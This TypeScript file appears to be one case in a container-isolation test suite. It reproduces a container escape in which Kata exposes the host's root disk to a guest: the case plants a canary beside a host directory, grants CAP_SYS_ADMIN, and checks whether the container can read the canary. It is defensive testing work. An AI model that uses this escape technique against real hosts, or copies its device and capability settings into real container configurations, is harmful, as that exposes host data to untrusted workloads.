import { onTestFinished } from 'vitest'
import { contained, escaped, type Attack } from '../../attack.ts'
import { LoopDisk } from '../../loop-disk.ts'
import { program } from '../../programs.ts'
import { addCapabilities } from '../../spec-changes.ts'

/**
 * The root file system of an image without layers is a plain directory of the host. Kata took the device on which the
 * directory lies for a disk that belongs to the container, and plugged the host's root disk into the guest.
 * The attacker looks through all disks of the container's kernel for what lies beside the directory.
 */
export const attack: Attack = {
  id: 'CVE-2026-24054',
  title: 'an image without layers, whose root file system is a directory of the host\'s disk',
  family: 'author',
  leak: 'the host\'s disk, with everything on it',
  bound: 'container',
  control: { weak: 'runc that is given the disk below the directory, as Kata gave it' },
  async run(site) {
    const disk = new LoopDisk(site, 'host-disk', 16)
    const mountPoint = `${site.directory}/host-disk-mounted`
    site.host.shell(`mke2fs -q -F ${disk.device}; mkdir ${mountPoint}; mount ${disk.device} ${mountPoint}`)
    onTestFinished(() => { site.host.shell(`umount --lazy ${mountPoint}`) })
    site.host.shell(`cd ${mountPoint}; echo ${site.secret} >canary; mkdir -p rootfs/attack; cp ${program('search-disks')} rootfs/attack; sync -f .`)
    const { stdout, stderr, refusal } = await site.attempt({
      args: ['/attack/search-disks', site.secret, ...(site.weak ? [`${disk.major}:${disk.minor}`] : [])],
      rootMounts: [{ type: 'bind', source: `${mountPoint}/rootfs`, target: '', options: ['rbind', 'rw'] }],
      spec: (spec) => {
        addCapabilities(spec.process, 'CAP_SYS_ADMIN')
        if (!site.weak) return
        const rules = spec.linux.resources['devices']
        if (Array.isArray(rules)) rules.push({ allow: true, type: 'b', major: disk.major, minor: disk.minor, access: 'rwm' })
      },
    })
    if (refusal !== undefined) return contained(`refused: ${refusal}`)
    if (stdout.includes('found')) return escaped(`a file of the host beside the image was read from ${stdout}`)
    return contained(`runs; no disk of its kernel has what lies beside the directory on the host's: ${stdout}${stderr}`)
  },
}
